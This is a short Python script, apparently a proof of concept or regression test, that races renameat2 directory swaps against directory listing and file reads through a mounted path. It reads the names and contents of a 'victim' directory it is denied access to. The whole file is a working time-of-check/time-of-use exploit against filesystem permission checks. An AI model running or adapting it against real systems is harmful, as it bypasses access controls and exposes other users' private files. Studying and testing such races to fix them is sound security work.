# SPDX-License-Identifier: Apache-2.0
"""Reads by its own directory MOUNT/mine while it swaps that with SOURCE/victim,
which is closed to it. Prints what it got of the victim's names and bytes.

Arguments: SOURCE, MOUNT, and what to do: list or read.
"""
import ctypes
import errno
import json
import os
import sys
import threading

RENAME_EXCHANGE = 2
GETDENTS64 = 217
RENAMEAT2 = 316
TRIES = 400

libc = ctypes.CDLL(None, use_errno=True)


class Swapper:
    def __init__(self, source):
        self.source = os.open(source, os.O_PATH)
        self.lock = threading.Lock()
        self.stops = False

    def swap(self):
        done = libc.syscall(RENAMEAT2, self.source, b"mine", self.source,
                            b"victim", RENAME_EXCHANGE)
        assert done == 0, os.strerror(ctypes.get_errno())

    def run(self):
        while not self.stops:
            with self.lock:
                self.swap()


def list_names(swapper, mount):
    """Opens its own directory, and lists it when another has its place."""
    opened = os.open(mount + "/mine", os.O_RDONLY | os.O_DIRECTORY)
    swapper.swap()
    buffer = ctypes.create_string_buffer(65536)
    length = libc.syscall(GETDENTS64, opened, buffer, 65536)
    error = ctypes.get_errno() if length < 0 else 0
    swapper.swap()
    names = [name for name in ("own.txt", "secret.txt")
             if name.encode() in buffer.raw]
    return {"names": names, "error": errno.errorcode.get(error)}


def read_once(swapper, path):
    try:
        opened = os.open(path, os.O_RDONLY)
    except OSError:
        return None
    try:
        with swapper.lock:
            for _ in range(2):
                try:
                    return os.pread(opened, 100, 0).decode()
                except OSError:
                    swapper.swap()
    finally:
        os.close(opened)
    return None


def read_bytes(swapper, mount):
    """Looks a name up while the directories are swapped again and again."""
    thread = threading.Thread(target=swapper.run)
    thread.start()
    data = None
    for _ in range(TRIES):
        data = data or read_once(swapper, mount + "/mine/secret.txt")
    swapper.stops = True
    thread.join()
    return {"data": data}


def main():
    source, mount, what = sys.argv[1:]
    act = {"list": list_names, "read": read_bytes}[what]
    print(json.dumps(act(Swapper(source), mount)))


main()
